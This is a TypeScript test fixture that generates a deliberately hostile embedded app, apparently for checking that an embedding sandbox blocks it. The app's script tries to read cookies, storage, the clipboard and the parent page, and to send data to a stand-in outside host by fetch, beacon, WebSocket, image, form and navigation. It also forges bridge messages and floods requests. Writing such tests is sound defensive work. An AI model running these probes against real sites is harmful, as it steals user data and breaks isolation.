/** What a hostile app gets of each try: `nothing`, or what it got. */
export type HostileTries = Record<string, string>;

/**
 * An app that tries to read what is not its own, and to send away what it has. It writes what each try has got it into
 * its page, under `#said`, and then asks the bridge for what it may not have.
 *
 * @param away the origin of a host that nothing may reach
 * @param server the origin of Oriel
 */
export function hostileApp(away: string, server: string): Record<string, string> {
  return {
    'index.html':
      '<!doctype html><title>Hostile</title><pre id="said"></pre><script type="module" src="main.js"></script>',
    'child.js': `parent.postMessage({ child: typeof RTCPeerConnection }, '*');`,
    'main.js': `
const away = ${JSON.stringify(away)}, server = ${JSON.stringify(server)};
const tries = {};
// From then on its own errors do not end it.
parent.postMessage({ method: 'loaded' }, '*');
// What neither succeeds nor fails has got nothing, either.
const bounded = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 2_000))]);
const attempt = async (name, work) => {
  try { tries[name] = String((await bounded(work())) ?? 'nothing'); } catch (error) { tries[name] = 'nothing'; }
  document.querySelector('#said').textContent = JSON.stringify({ tries });
};
const element = (tag, properties) => new Promise((resolve, reject) => {
  const node = Object.assign(document.createElement(tag), { onload: () => resolve('loaded'), onerror: reject }, properties);
  document.body.append(node);
});
await attempt('the page around', () => parent.document.documentElement.outerHTML);
await attempt('the page of the host', () => top.document.title);
await attempt('globals of the page around', () => Object.keys(parent.localStorage));
await attempt('local storage', () => localStorage.length);
await attempt('session storage', () => sessionStorage.length);
await attempt('cookies', () => document.cookie);
await attempt('databases', () => indexedDB.databases().then((found) => found.length));
await attempt('caches', () => caches.keys());
await attempt('the referrer', () => document.referrer || undefined);
await attempt('the name of the window', () => window.name || undefined);
for (const credentials of ['include', 'omit'])
  for (const path of ['/api/v1/users/me', '/api/v1/app-config', '/healthz', '/embed/sdk.js'])
    await attempt('fetch ' + path + ' ' + credentials, () => fetch(server + path, { credentials }).then((answer) => answer.text()));
await attempt('fetch without reading', () => fetch(server + '/api/v1/embed/session/token', { method: 'POST', mode: 'no-cors', body: '{}' }).then(() => 'sent'));
await attempt('fetch above its address', () => fetch('../../../api/v1/app-config').then((answer) => answer.text()));
await attempt('fetch away', () => fetch(away + '/fetch.json').then((answer) => answer.text()));
await attempt('fetch away without reading', () => fetch(away + '/blind', { mode: 'no-cors' }).then(() => 'sent'));
await attempt('request away', () => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  Object.assign(request, { onload: () => resolve('sent'), onerror: reject });
  request.open('GET', away + '/xhr');
  request.send();
}));
await attempt('socket', () => new Promise((resolve, reject) => {
  const socket = new WebSocket(away.replace('https', 'wss') + '/socket');
  Object.assign(socket, { onopen: () => resolve('open'), onerror: reject });
}));
await attempt('beacon', () => { navigator.sendBeacon(away + '/beacon', 'rows'); });
await attempt('picture', () => element('img', { src: away + '/picture.gif' }));
await attempt('script', () => element('script', { src: away + '/script.js' }));
await attempt('module', () => import(away + '/module.js').then(() => 'ran'));
await attempt('script of the console', () => element('script', { src: server + '/embed/sdk.js', type: 'module' }));
await attempt('style', () => element('link', { rel: 'stylesheet', href: away + '/style.css' }));
await attempt('prefetch', () => element('link', { rel: 'prefetch', href: away + '/prefetch' }));
await attempt('frame', () => { element('iframe', { src: away + '/frame' }); });
await attempt('picture of a style', () => { document.body.style.backgroundImage = 'url(' + away + '/style.gif)'; });
await attempt('window', () => window.open(away + '/window'));
await attempt('the page of the host, elsewhere', () => { top.location = away + '/top'; });
await attempt('the surface, elsewhere', () => { parent.location = away + '/parent'; });
await attempt('form', () => {
  const form = Object.assign(document.createElement('form'), { action: away + '/form', target: '_top' });
  document.body.append(form);
  form.submit();
});
await attempt('connection of browsers', () => new RTCPeerConnection());
await attempt('words as a program', () => new Function('return "ran"')());
await attempt('worker', () => new Worker('child.js') && undefined);
await attempt('clipboard', () => navigator.clipboard.readText());
await attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)));

const envelope = (direction, type, payload) => ({
  source: 'svc-embed', direction, type: 'svc:' + direction + ':' + type, payload, timestamp: Date.now(), surface: 'dashboard',
});
for (const target of [parent, top]) {
  target.postMessage(envelope('action', 'set-color-scheme', { scheme: 'dark' }), '*');
  target.postMessage(envelope('event', 'navigate', { path: '/forged' }), '*');
}

let last = 0;
const ask = (method, params) => new Promise((resolve) => {
  last += 1;
  const id = last;
  addEventListener('message', function hear({ data }) {
    if (data.id !== id) return;
    removeEventListener('message', hear);
    resolve(data.error ? data.error.code : 'answered');
  });
  parent.postMessage({ id, method, params }, '*');
});
const asked = {
  token: await ask('token'),
  constructor: await ask('constructor'),
  proto: await ask('__proto__'),
  query: await ask('query', { query: { measures: ['network.count'] } }),
  report: await ask('load', { report: 1_000_000 }),
  nothing: await ask('load', {}),
  member: await ask('load', { report: 'Flights by city', filters: [{ member: 'airports.state', operator: 'set' }] }),
  filter: await ask('load', { report: 'Flights by city', filters: [{ member: { or: [] }, operator: 'set' }] }),
  limit: await ask('load', { report: 'Flights by city', limit: 1e9 }),
  state: await ask('state', { state: 'session=stolen' }),
  long: await ask('state', { state: 'x'.repeat(100_000) }),
  map: await ask('state', { state: new Map([[1, 2]]) }),
};
// Until it is refused, however the seconds fall in which the messages are counted.
const flood = new Set();
while (!flood.has('too_many')) {
  for (let count = 0; count < 150; count += 1) void ask('reports').then((got) => flood.add(got));
  await new Promise((resolve) => addEventListener('message', resolve, { once: true }));
}
document.querySelector('#said').textContent = JSON.stringify({ tries, asked, flood: [...flood] });
`,
  };
}
